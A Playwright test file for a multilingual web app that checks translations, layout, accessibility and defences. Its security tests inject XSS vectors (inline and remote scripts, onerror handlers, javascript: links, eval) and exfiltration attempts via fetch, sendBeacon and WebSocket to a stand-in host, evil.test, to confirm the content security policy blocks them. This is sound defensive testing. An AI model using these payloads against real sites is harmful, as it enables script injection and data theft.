import type { Page } from '@playwright/test'
import { ALL_LANGUAGES } from './support/languages.ts'
import { expect, expectAnswered, HOME, MARTA, MEASUREMENTS, speak, test } from './support/app.ts'
import {
  cutTexts,
  PUBLIC_SCREENS,
  sampled,
  type Screen,
  SCREENS_OF,
  STAFF_SCREENS,
  tellViolations,
  walk,
  watch,
  widthAt400,
  wordsOn,
} from './support/screens.ts'
import { HOSTILE_TEXTS, hostile } from './support/hostile.ts'

/** The name of a text where the text should be. */
const RAW_KEY = /^[a-z]+\.[a-zA-Z.]+$/
/** What an empty date field shows in German and its like: "tt.mm.jjjj". */
const EMPTY_DATE = /^[a-z]{2}\.[a-z]{2}\.[a-z]{4}$/
const BROKEN = /Invalid Date|\bNaN\b|\bundefined\b|\[object |\{\{|\}\}/
const findings = async (page: Page): Promise<string[]> => {
  const words = await wordsOn(page)
  return [
    ...words.filter((word) => RAW_KEY.test(word) && !EMPTY_DATE.test(word)),
    ...(BROKEN.exec(words.join(' ')) ?? []),
  ]
}

/** Whose screens are looked at in German, too, for its long words; the others are mostly the same ones. */
const LANGUAGES_OF: Readonly<Record<string, readonly string[]>> = {
  nobody: ['en-GB', 'de', 'ar'],
  'a groundskeeper': ['en-GB', 'de', 'ar'],
  'a company that only measures': ['en-GB'],
}

/** Forty screens, on a machine that may be busy with other tests. */
const LONG_WALK_MS = 400_000

/** English has the shortest words: what fits in these fits in it. */
const isLong = (language: string): boolean => language !== 'en-GB'

for (const [who, { email, screens }] of Object.entries(SCREENS_OF))
  for (const language of LANGUAGES_OF[who] ?? ['en-GB', 'ar'])
    test(`H2 H4 I1 ${isLong(language) ? 'G6 G7' : 'G1'} every screen of ${who} in ${language} keeps to the policy, to our host, to its words and to its ${isLong(language) ? 'width' : 'frame'}`, async ({
      app,
      context,
      page,
    }) => {
      test.setTimeout(LONG_WALK_MS)
      if (email) await app.signIn(context, email)
      await speak(context, app, language)
      await tellViolations(context)
      const { said, foreign } = watch(context, app)
      const titles = new Map<string, string>()
      const seen = isLong(language) ? sampled(who, screens) : screens
      await walk(page, app, seen, async (screen) => {
        expect(await findings(page), screen.name).toEqual([])
        if (isLong(language)) {
          const desk = page.viewportSize()
          // The wall is read from afar and fits its own screen.
          if (screen.name !== 'wall') expect.soft(await cutTexts(page), screen.name).toEqual([])
          expect.soft(await widthAt400(page), screen.name).toBeLessThanOrEqual(320)
          if (desk) await page.setViewportSize(desk)
        }
        // The wall covers the navigation, and so does a dialog: there is nothing to get past.
        else if (!screen.open && screen.name !== 'wall')
          await expectFrame(page, screen, titles, screen === seen[0])
        expect(said, screen.name).toEqual([])
      })
      expect(twice(titles)).toEqual([])
      expect(foreign).toEqual([])
      expect(
        app.backend
          .asked(({ status = 200 }) => status !== 200)
          .map(({ path, status }) => `${path} ${status}`),
      ).toEqual([])
    })

/** A title, one h1, one main and a way past the navigation; it is where the first Tab leads on a page that has just been loaded. */
async function expectFrame(
  page: Page,
  { name }: Screen,
  titles: Map<string, string>,
  isLoaded: boolean,
): Promise<void> {
  await expect(page, name).toHaveTitle(/\S/)
  titles.set(new URL(page.url()).pathname, await page.title())
  await expect(page.locator('h1'), name).toHaveCount(1)
  await expect(page.getByRole('main'), name).toHaveCount(1)
  const skip = page.getByRole('link', { name: 'Skip to content' })
  if (isLoaded) {
    await page.keyboard.press('Tab')
    await expect(skip, name).toBeFocused()
  }
  await skip.press('Enter')
  await expect(page.getByRole('main'), name).toBeFocused()
}

/** Addresses that share a title; two of them are one page. */
const twice = (titles: ReadonlyMap<string, string>): string[] =>
  [...titles]
    .filter(([path, title]) => [...titles].some(([other, its]) => other !== path && its === title))
    .map(([path]) => path)
    .filter((path) => path !== '/forgot-password')

test('H2 I1 the other languages have words for the log-in, the day and the calendar', async ({
  app,
  context,
  page,
}) => {
  test.setTimeout(LONG_WALK_MS)
  await tellViolations(context)
  const { said } = watch(context, app)
  await app.signIn(context, MARTA)
  const few = STAFF_SCREENS.filter(({ name }) => name === 'home' || name === 'week')
  for (const language of ALL_LANGUAGES.filter((one) => !['en-GB', 'de', 'ar'].includes(one))) {
    await speak(context, app, language)
    await walk(page, app, few, async ({ name }) => {
      expect(await findings(page), `${language} ${name}`).toEqual([])
    })
    expect(said, language).toEqual([])
  }
})

for (const [who, { email, screens }] of Object.entries(SCREENS_OF)) {
  // A company that only measures has the same screens as a groundskeeper.
  if (email === undefined || email === MEASUREMENTS) continue
  test(`X1 R6 hostile texts in every field of every answer are only texts to ${who}`, async ({
    app,
    context,
    page,
  }) => {
    test.setTimeout(LONG_WALK_MS)
    await app.signIn(context, email)
    await speak(context, app, 'en-GB')
    await tellViolations(context)
    const { said, foreign } = watch(context, app)
    app.distort(hostile())
    const shown = new Set<string>()
    await walk(page, app, sampled(who, screens), async (screen) => {
      expect(said, screen.name).toEqual([])
      expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss), screen.name).toBeUndefined()
      expect(await doubtfulLinks(page), screen.name).toEqual([])
      const text = await page.evaluate(() => document.body.innerText)
      for (const one of HOSTILE_TEXTS) if (text.includes(one)) shown.add(one)
    })
    expect(shown.size).toBeGreaterThan(0)
    expect(foreign).toEqual([])
  })
}

/** Addresses on the page that lead to anything but a page, a mail or a telephone. */
const doubtfulLinks = (page: Page): Promise<string[]> =>
  page.evaluate(() => {
    const found: string[] = []
    for (const name of ['href', 'src', 'action', 'formaction', 'srcdoc', 'xlink:href', 'data'])
      for (const element of document.querySelectorAll(`[${CSS.escape(name)}]`)) {
        const value = element.getAttribute(name) ?? ''
        const { protocol, origin } = new URL(value, location.href)
        const own = /^(https?|blob):$/.test(protocol) && origin === location.origin
        if (
          !own &&
          !/^(mailto|tel):$/.test(protocol) &&
          !(protocol === 'data:' && element.matches('img, link'))
        )
          found.push(`${element.tagName} ${name} ${value}`)
      }
    return found
  })

test('H3 what somebody smuggles into the page does not run and goes nowhere', async ({
  app,
  context,
  page,
}) => {
  await context.addInitScript(() => {
    const violations: string[] = []
    Object.assign(window, { violations })
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      violations.push(effectiveDirective),
    )
  })
  const { foreign } = watch(context, app)
  await page.route('https://evil.test/**', (route) =>
    route.fulfill({ body: 'window.__xss = 1', contentType: 'text/javascript' }),
  )
  await page.goto('/login')
  await expect(page.getByLabel('E-mail')).toBeVisible()
  // From a timer, as a script of the page would: what is evaluated from outside may use eval. What a policy forbids may also throw.
  await page.evaluate(() =>
    setTimeout(() => {
      const tryTo = (smuggle: () => void) => {
        try {
          smuggle()
        } catch {
          // Refused at once.
        }
      }
      const put = (name: string, attributes: Record<string, string>) => {
        const element = document.createElement(name)
        for (const [key, value] of Object.entries(attributes)) tryTo(() => element.setAttribute(key, value))
        tryTo(() => document.body.append(element))
        return element
      }
      const code = 'window.__xss = 1'
      tryTo(() => {
        document.body.append(Object.assign(document.createElement('script'), { textContent: code }))
      })
      tryTo(() => put('script', { src: 'https://evil.test/x.js' }))
      tryTo(() => put('script', { src: `data:text/javascript,${code}` }))
      tryTo(() => put('img', { src: '/nothing.png', onerror: code }))
      tryTo(() => put('svg', { onload: code }))
      tryTo(() => put('a', { href: `javascript:${code}` }).click())
      tryTo(() => put('iframe', { srcdoc: `<script>parent.${code}</script>` }))
      tryTo(() => put('iframe', { src: 'https://evil.test/frame' }))
      tryTo(() => put('object', { data: 'https://evil.test/object' }))
      tryTo(() => put('base', { href: 'https://evil.test/' }))
      tryTo(() => {
        const form = put('form', { action: 'https://evil.test/take', method: 'post' })
        ;(form as HTMLFormElement).submit()
      })
      tryTo(() => {
        document.body.insertAdjacentHTML('beforeend', `<img src=x onerror="${code}">`)
      })
      tryTo(() => (0, eval)(code))
      tryTo(() => new Function(code)())
      tryTo(() => setTimeout(code))
      tryTo(() => void fetch('https://evil.test/steal').catch(() => undefined))
      tryTo(() => navigator.sendBeacon('https://evil.test/steal'))
      tryTo(() => new WebSocket('wss://evil.test/steal'))
    }),
  )
  await expect
    .poll(() =>
      page.evaluate(() =>
        [...new Set((window as unknown as { violations: string[] }).violations)].toSorted(),
      ),
    )
    .toEqual(
      expect.arrayContaining([
        'base-uri',
        'connect-src',
        'form-action',
        'frame-src',
        'require-trusted-types-for',
        'script-src-elem',
      ]),
    )
  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined()
  expect(new URL(await page.evaluate(() => document.baseURI)).origin).toBe(app.origin)
  expect(await page.evaluate(() => location.pathname)).toBe('/login')
  expect(foreign).toEqual([])
})

test('H3 no other site can put us into a frame', async ({ app, page }) => {
  await page.route('https://evil.test/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${app.origin}/login"></iframe>` }),
  )
  await page.goto('https://evil.test/')
  // The browser's own page for "refused" stands in the frame.
  await expect
    .poll(() => page.frames().map((frame) => frame.url()))
    .toContain('chrome-error://chromewebdata/')
  expect(page.frames().filter((frame) => frame.url().startsWith(app.origin))).toEqual([])
})

test('H4 the letters come from our own host', async ({ app, context, page }) => {
  const { foreign } = watch(context, app)
  const fonts: string[] = []
  page.on(
    'request',
    (request) => request.resourceType() === 'font' && fonts.push(new URL(request.url()).origin),
  )
  await page.goto(PUBLIC_SCREENS[0]?.path ?? HOME)
  await expect(page.getByLabel('E-mail')).toBeVisible()
  await page.evaluate(() => document.fonts.ready.then(() => undefined))
  expect(fonts.length).toBeGreaterThan(0)
  expect(new Set(fonts)).toEqual(new Set([app.origin]))
  expect(foreign).toEqual([])
  await expectAnswered(app.backend)
})
